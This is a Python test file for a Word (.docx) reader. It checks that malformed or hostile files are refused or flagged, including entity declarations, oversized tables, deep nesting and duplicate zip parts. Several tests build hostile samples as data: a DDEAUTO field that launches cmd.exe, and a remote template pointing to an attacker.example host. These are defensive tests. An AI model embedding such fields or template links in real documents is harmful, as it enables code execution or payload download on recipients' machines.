"""A hostile or damaged Word document is refused with its place, before anything of its size is built."""

from __future__ import annotations

import pytest

from documents.readers.docx_xml import CONTINUE, RESTART, document, docx, p, package, span, tbl, tc, tr
from documents.readers.grids import ids, only
from gongkai.documents.readers import docx as reader
from gongkai.documents.readers import read_paper
from gongkai.errors import RefusedFile

ENTITY = '<!DOCTYPE w [<!ENTITY a "b">]>'


@pytest.mark.parametrize(
    ("xml", "place"),
    [
        (ENTITY + document(p("甲")), {"part": "word/document.xml"}),
        ((ENTITY + document(p("甲"))).encode("utf-16"), {"part": "word/document.xml"}),
        (document(p("甲")).encode()[:-20], {"part": "word/document.xml"}),
        (document(p("甲")).encode().replace("甲".encode(), b"\xff\xfe"), {"part": "word/document.xml"}),
        (document(p("甲\x01")), {"part": "word/document.xml"}),
        ("<w:x>" * 5000, {"part": "word/document.xml"}),
        (document(tbl(tr(tc("甲", span(1_000_000))))), {"table": 1, "row": 1, "allowed": 64}),
        (document(tbl(tr(*[tc("1")] * 200_000))), {"table": 1, "row": 1, "allowed": 64}),
        (document(tbl(*[tr(tc("1"))] * 2_001)), {"table": 1, "row": 2_001, "allowed": 2_000}),
        (document(tbl(tr(tc("甲", span(64) + RESTART)), *[tr(tc("", span(64) + CONTINUE))] * 400)), {"allowed": 20_000}),
        (document(tbl(tr(tc("长" * 20_001)))), {"table": 1, "row": 1, "column": 1, "found": 20_001}),
        (document(tbl(tr(tc("1"))) * 51), {"found": 51, "allowed": 50}),
        (document("<w:sdt><w:sdtContent>" * 100 + p("深") + "</w:sdtContent></w:sdt>" * 100), {"allowed": 200}),
    ],
    ids=["dtd", "dtd utf-16", "cut", "bytes", "control", "deep xml", "wide span", "many cells", "tall", "big merge", "long",
         "tables", "nesting"],
)  # fmt: skip
def test_refused_with_its_place(xml: str | bytes, place: dict[str, object]) -> None:
    with pytest.raises(RefusedFile) as caught:
        reader.read(docx(xml=xml))
    assert caught.value.data.items() >= place.items()
    assert caught.value.message


def test_three_thousand_tables_deep_is_refused() -> None:
    body = "<w:tbl><w:tr><w:tc>" * 3000 + "</w:tc></w:tr></w:tbl>" * 3000
    with pytest.raises(RefusedFile):
        reader.read(docx(xml=document(body)))


def test_a_tall_merge_is_read_in_one_pass() -> None:
    rows = [tr(tc("甲", RESTART), tc("1")), *[tr(tc("", CONTINUE), tc("1"))] * 1_999]
    (grid,) = reader.read(docx(tbl(*rows))).grids
    assert (grid.rows, grid.cells[0].row_span) == (2_000, 2_000)


@pytest.mark.parametrize("value", ["abc", "-3", "0", "1e3", ""])
def test_a_span_that_is_no_number_counts_one_and_is_told(value: str) -> None:
    paper = reader.read(docx(tbl(tr(tc("甲", f'<w:gridSpan w:val="{value}"/>'), tc("1")))))
    assert only(paper) == [["甲", "1"]]
    assert ids(paper) == {"READ-W1"}


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x00" * 50,
        b"PK\x03\x04 not a zip",
        docx(p("甲"))[:300],
        package({"[Content_Types].xml": "<Types/>"}),
        package({"[Content_Types].xml": "<Types>wordprocessingml</Types>", "word/other.xml": "<x/>"}),
        package({"word/document.xml": document(p("甲"))}),
    ],
    ids=["empty", "zeros", "no zip", "truncated", "no part", "no document", "no types"],
)
def test_what_is_no_document_is_refused_or_read(data: bytes) -> None:
    try:
        paper = read_paper(data, "x.docx")
    except RefusedFile as error:
        assert error.message
    else:
        assert [block.text for block in paper.blocks] == ["甲"]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused() -> None:
    data = package(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<a/>"}, names=[("word/document.xml", b"<b/>")]
    )
    with pytest.raises(RefusedFile) as caught:
        reader.read(data)
    assert caught.value.data["part"] == "word/document.xml"


def test_a_command_in_a_field_is_told_and_not_run() -> None:
    field = '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    paper = reader.read(docx(p("正文", field)))
    assert ids(paper) == {"READ-W3"}


def test_a_remote_template_is_told() -> None:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    paper = reader.read(docx(p("正文"), extra={"word/_rels/document.xml.rels": relation}))
    assert ids(paper) == {"READ-W3"}


def test_a_foreign_chunk_is_told() -> None:
    paper = reader.read(docx(p("正文"), '<w:altChunk r:id="r1"/>'))
    assert ids(paper) == {"READ-W3"}
